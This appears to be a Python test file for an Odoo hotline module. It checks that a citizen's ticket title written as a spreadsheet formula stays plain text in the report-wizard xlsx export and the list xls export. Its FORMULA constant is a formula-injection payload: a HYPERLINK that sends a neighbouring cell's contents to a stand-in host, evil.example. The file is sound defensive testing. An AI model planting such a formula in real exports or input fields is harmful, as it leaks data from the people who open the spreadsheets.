"""Issue 15 item 8 (NF-2, ST-5): a citizen's title written as a spreadsheet formula stays text
in every Excel export, tried as the office leader who exports, through the real download
routes over HTTP, the files read back with openpyxl (xlsx) and xlrd (xls)."""
import io
import json
import re
import xmlrpc.client

import live  # tests/live.py
import openpyxl
import xlrd

import odoo
from odoo.tests.common import get_db_name

DB = get_db_name()
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&B6,"查看详情")'


class TestExportFormulas(live.LiveServerCase):

    def setUp(self):
        super().setUp()
        self.base = 'http://127.0.0.1:%d' % odoo.tests.common.PORT
        # the citizen's request (written as the website would store it)
        self.ticket = self.server_query(
            'UPDATE hotline_ticket SET title = %s WHERE id = (SELECT min(id) FROM hotline_ticket)'
            ' RETURNING id', (FORMULA,))[0]['id']
        self.uid = self.server_query(
            "SELECT id FROM res_users WHERE login = 'office_leader'")[0]['id']
        self.models = xmlrpc.client.ServerProxy(self.base + '/xmlrpc/2/object')
        self.authenticate('office_leader', 'office_leader')

    def _rpc(self, model, method, *args, **kw):
        return self.models.execute_kw(DB, self.uid, 'office_leader', model, method,
                                      list(args), kw)

    def test_report_export_workbook_keeps_the_title_as_text(self):
        """Issue 15 item 8, ST-5: the export wizard (report_xlsx) with the request analysis
        grouped by title, its button pressed (/web/dataset/call_button) and the workbook
        downloaded from /report/xlsx/…: the cell holding the title is a string, not a formula
        (before: xlsxwriter wrote a live HYPERLINK formula)."""
        title_field = self._rpc('ir.model.fields', 'search', [
            ('model', '=', 'hotline.ticket.report'), ('name', '=', 'title')])[0]
        wizard = self._rpc('hotline.report.export', 'create', {
            'report_model': 'hotline.ticket.report', 'row_field_id': title_field})
        # the wizard's button, as the web client presses it
        action = self.opener.post(self.base + '/web/dataset/call_button', json={
            'jsonrpc': '2.0', 'method': 'call', 'params': {
                'model': 'hotline.report.export', 'method': 'action_export',
                'args': [[wizard]]}}, timeout=120).json()
        self.assertIn('result', action, action)
        action = action['result']
        self.assertEqual(action['report_type'], 'xlsx')
        reply = self.url_open('/report/xlsx/%s/%d' % (action['report_name'], wizard),
                              timeout=120)
        self.assertEqual(reply.status_code, 200, reply.text[:500])
        sheet = openpyxl.load_workbook(io.BytesIO(reply.content)).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
        self.assertTrue(cells, 'the title is in the workbook')
        for cell in cells:
            self.assertEqual(cell.data_type, 's', '%s is a formula' % cell.coordinate)
        self.assertFalse([c.coordinate for row in sheet.iter_rows() for c in row
                          if c.data_type == 'f'], 'no formula anywhere')

    def test_list_export_keeps_the_title_as_text(self):
        """Issue 15 item 8: Odoo's own list export (/web/export/xls, the "Export" of the list
        view) of the request: the title cell is text (xlwt writes strings as strings; this
        guards it)."""
        page = self.url_open('/web/login', timeout=120).text
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        reply = self.url_open('/web/export/xls', timeout=120, data={
            'csrf_token': token, 'token': 'x', 'data': json.dumps({
                'model': 'hotline.ticket', 'ids': [self.ticket], 'domain': [],
                'import_compat': False, 'context': {},
                'fields': [{'name': 'name', 'label': 'Number'},
                           {'name': 'title', 'label': 'Title'}]})})
        self.assertEqual(reply.status_code, 200, reply.text[:500])
        sheet = xlrd.open_workbook(file_contents=reply.content).sheet_by_index(0)
        self.assertEqual(sheet.cell_value(1, 1), FORMULA)
        self.assertEqual(sheet.cell_type(1, 1), xlrd.XL_CELL_TEXT)
